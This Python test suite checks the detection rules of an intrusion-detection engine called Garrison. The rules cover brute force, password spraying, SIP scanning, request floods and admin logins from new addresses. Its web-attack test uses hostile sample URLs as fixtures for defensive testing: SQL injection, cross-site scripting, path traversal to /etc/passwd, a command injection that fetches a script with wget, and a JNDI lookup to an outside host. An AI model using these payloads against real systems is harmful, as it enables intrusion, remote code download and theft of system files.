"""Garrison's own rules and detectors: brute force, spraying, web attacks, floods, SIP, admins."""

from __future__ import annotations

from datetime import timedelta

import pytest

from garrison.detection.engine.evaluator import DetectionEngine
from garrison.detection.findings import Finding
from garrison.detection.records import LogEvent, LogSource
from tests.conftest import TEST_START
from tests.detection.engine.factories import auth_failure, event, pack_engine, titles, web_request

PRODUCTS = ["sshd", "openvpn", "nginx-http-auth", "dovecot", "postfix", "asterisk"]


def run(engine: DetectionEngine, events: list[LogEvent]) -> list[Finding]:
    found: list[Finding] = []
    for event_ in events:
        found.extend(engine.evaluate(event_))
    return found


@pytest.mark.parametrize("product", PRODUCTS)
def test_brute_force_on_any_product(product: str) -> None:
    engine = pack_engine()
    events = [
        auth_failure("198.51.100.4", "alice", product, at=TEST_START + timedelta(seconds=i))
        for i in range(10)
    ]
    found = run(engine, events)
    assert "Brute force from one address" in titles(found)
    brute = next(f for f in found if f.rule.title == "Brute force from one address")
    assert brute.source_address == "198.51.100.4"
    assert brute.rule.author == "Garrison"
    assert brute.rule.license == "LicenseRef-Garrison"
    assert brute.rule.category == "unauthorised_access"


def test_brute_force_counts_failures_across_products() -> None:
    engine = pack_engine()
    events = [
        auth_failure("198.51.100.5", "alice", PRODUCTS[i % len(PRODUCTS)], at=TEST_START)
        for i in range(10)
    ]
    assert titles(run(engine, events)).count("Brute force from one address") == 1


def test_nine_failures_are_not_brute_force() -> None:
    engine = pack_engine()
    events = [auth_failure("198.51.100.6", "alice", "sshd") for _ in range(9)]
    assert run(engine, events) == []


def test_password_spraying() -> None:
    engine = pack_engine()
    events = [auth_failure("198.51.100.7", f"user{i}", "dovecot") for i in range(5)]
    found = run(engine, events)
    assert titles(found) == ["Password spraying from one address"]
    assert found[0].matched_fields["account"] == [f"user{i}" for i in range(5)]


def test_distributed_brute_force_on_one_account() -> None:
    engine = pack_engine()
    events = [auth_failure(f"198.51.100.{i}", "director", "openvpn") for i in range(10)]
    assert "Distributed brute force on one account" in titles(run(engine, events))


def test_sip_user_enumeration_and_scanning() -> None:
    engine = pack_engine()
    enumeration = [auth_failure("203.0.113.50", str(100 + i), "asterisk") for i in range(5)]
    assert "SIP user enumeration from one address" in titles(run(engine, enumeration))
    flood = [
        auth_failure("203.0.113.51", "100", "asterisk", at=TEST_START + timedelta(seconds=i))
        for i in range(20)
    ]
    assert "SIP scanning from one address" in titles(run(engine, flood))


def test_sip_scanner_user_agent() -> None:
    engine = pack_engine()
    line = event(
        {"message": "Registration from '\"100\"<sip:100@192.0.2.1>' failed"},
        logsource=LogSource("asterisk", "asterisk"),
        raw='NOTICE: Registration from 203.0.113.9 UA "friendly-scanner" failed',
    )
    assert titles(engine.evaluate(line)) == ["SIP scanner user agent"]


@pytest.mark.parametrize(
    ("target", "title"),
    [
        (
            "/news.php?id=1%20UNION%20SELECT%20password,2%20FROM%20users",
            "SQL injection attempt in a requested URL",
        ),
        ("/login?user=admin'%20or%20'1'%3d'1", "SQL injection attempt in a requested URL"),
        (
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "Cross-site scripting attempt in a requested URL",
        ),
        ("/view?file=../../../../etc/passwd", "Path traversal attempt in a requested URL"),
        ("/download?f=..%2f..%2fwin.ini", "Path traversal attempt in a requested URL"),
        (
            "/ping?host=192.0.2.1;wget%20http://198.51.100.1/x.sh",
            "Command injection attempt in a requested URL",
        ),
        ("/api?q=${jndi:ldap://198.51.100.1/a}", "Command injection attempt in a requested URL"),
        ("/.env", "Probe of a forbidden path"),
        ("/.git/config", "Probe of a forbidden path"),
    ],
)
def test_web_attacks_in_urls(target: str, title: str) -> None:
    engine = pack_engine()
    assert title in titles(engine.evaluate(web_request(target)))


def test_ordinary_requests_raise_nothing() -> None:
    engine = pack_engine()
    for target in [
        "/",
        "/news/2026/summit-opens",
        "/search?q=press+accreditation",
        "/static/app.js",
    ]:
        assert engine.evaluate(web_request(target)) == []


def test_web_scanner_user_agent_and_content_scanning() -> None:
    engine = pack_engine()
    assert "Web vulnerability scanner" in titles(
        engine.evaluate(web_request("/", agent="Mozilla/5.0 (compatible; Nikto/2.5.0)"))
    )
    probes = [web_request(f"/admin{i}.php", address="203.0.113.80", status=404) for i in range(30)]
    assert "Web content scanning from one address" in titles(run(engine, probes))


def test_request_surge_per_site_and_per_source() -> None:
    engine = pack_engine()
    found: list[Finding] = []
    # Ten quiet minutes teach the baseline: 20 requests a minute from several addresses.
    for minute in range(10):
        for index in range(20):
            at = TEST_START + timedelta(minutes=minute, seconds=index)
            found.extend(engine.evaluate(web_request("/", address=f"192.0.2.{index}", at=at)))
    assert found == []
    flood_start = TEST_START + timedelta(minutes=10)
    for index in range(700):
        at = flood_start + timedelta(milliseconds=index * 50)
        found.extend(engine.evaluate(web_request("/", address="198.51.100.99", at=at)))
    assert titles(found) == ["Request flood from one address", "Request surge on a site"]
    flood = found[0]
    assert flood.source_address == "198.51.100.99"
    assert flood.rule.category == "denial_of_service"
    assert flood.matched_fields["requests_this_minute"] == 301
    site = found[1]
    assert site.matched_fields["site"] == "portal.example.org"
    assert site.matched_fields["requests_this_minute"] == 601


def test_admin_login_from_a_new_address() -> None:
    engine = pack_engine()
    sshd = LogSource("linux", "sshd")

    def accepted(address: str, user: str = "root") -> LogEvent:
        message = f"Accepted publickey for {user} from {address} port 50022 ssh2"
        return event({"message": message, "outcome": "success", "user": user}, logsource=sshd)

    first = engine.evaluate(accepted("192.0.2.10"))
    assert titles(first) == ["Administrator login from a new address"]
    assert first[0].matched_fields == {"account": "root", "source_address": "192.0.2.10"}
    assert engine.evaluate(accepted("192.0.2.10")) == []
    assert engine.evaluate(accepted("192.0.2.10", user="bob")) == []
    assert titles(engine.evaluate(accepted("198.51.100.3"))) == [
        "Administrator login from a new address"
    ]
    admin = engine.admin_login
    assert admin is not None
    assert [(item.account, item.address) for item in admin.drain_learned()] == [
        ("root", "192.0.2.10"),
        ("root", "198.51.100.3"),
    ]
    restarted = pack_engine()
    assert restarted.admin_login is not None
    restarted.admin_login.preload([("root", "192.0.2.10", TEST_START)])
    assert restarted.evaluate(accepted("192.0.2.10")) == []
